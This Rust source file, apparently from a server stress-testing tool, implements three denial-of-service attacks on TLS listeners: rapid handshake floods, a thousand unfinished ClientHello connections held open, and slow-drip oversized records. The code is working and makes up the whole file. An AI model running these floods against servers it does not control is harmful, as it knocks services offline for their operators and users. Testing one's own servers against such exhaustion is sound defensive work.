//! Clients of listeners with TLS.

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::bodies::hold;
use super::crowd::{Attacking, crowd};
use crate::peer::{connect, source};
use crate::target::Target;
use crate::tls::{client_hello, connect_tls};

/// The header of a record with a handshake message: its type, TLS 1.2 and the length.
const HANDSHAKE_RECORD: [u8; 3] = [22, 3, 3];
/// The header of a record with data.
const DATA_RECORD: [u8; 3] = [23, 3, 3];
/// The largest record without encryption.
const RECORD_BYTES: u16 = 16 * 1024;
/// The largest handshake message that rustls takes: its header, and what it says that follows.
const MESSAGE_BYTES: usize = 0xffff;
/// The bytes of a slow record that are sent one by one.
const SLOW_BYTES: usize = 1000;

/// Handshakes, each on a connection of its own, without a pause.
pub(super) fn handshake_flood(target: Target) -> Attacking {
    crowd(8, move |number| async move {
        loop {
            connect_tls(source(number), target.http, &target).await?;
        }
    })
}

/// Handshakes of which only the first message is sent, or nearly all of the largest one.
pub(super) fn unfinished_handshakes(target: Target) -> Attacking {
    crowd(1000, move |number| async move {
        let mut stream = connect(source(number), target.http).await?;
        match number % 2 {
            0 => stream.write_all(&client_hello(&target)?).await?,
            _ => stream.write_all(&unfinished_hello()).await?,
        }
        hold(&mut stream).await
    })
}

/// Records of the largest size, whose last bytes are sent one by one.
pub(super) fn slow_records(target: Target) -> Attacking {
    crowd(1000, move |number| async move {
        // Not all at once: handshakes are the subject of another attack.
        sleep(Duration::from_millis(u64::from(number) * 4)).await;
        let mut stream = connect_tls(source(number), target.http, &target).await?;
        // Below the encryption, so that the record is never complete.
        let (socket, _) = stream.get_mut();
        let length = RECORD_BYTES.to_be_bytes();
        let sent = usize::from(RECORD_BYTES) - SLOW_BYTES;
        let record = [&DATA_RECORD[..], &length, &vec![0; sent]].concat();
        socket.write_all(&record).await?;
        for _byte in 1..SLOW_BYTES {
            socket.write_all(&[0]).await?;
            sleep(Duration::from_millis(500)).await;
        }
        hold(socket).await
    })
}

/// The largest first message but for its last byte, in records of the largest size.
fn unfinished_hello() -> Vec<u8> {
    let length = u32::try_from(MESSAGE_BYTES - 4).unwrap_or(u32::MAX);
    let [_, a, b, c] = length.to_be_bytes();
    let mut message = vec![1, a, b, c];
    message.resize(MESSAGE_BYTES - 1, 0);
    let mut out = Vec::new();
    for part in message.chunks(RECORD_BYTES.into()) {
        out.extend_from_slice(&HANDSHAKE_RECORD);
        let length = u16::try_from(part.len()).unwrap_or(u16::MAX);
        out.extend_from_slice(&length.to_be_bytes());
        out.extend_from_slice(part);
    }
    out
}
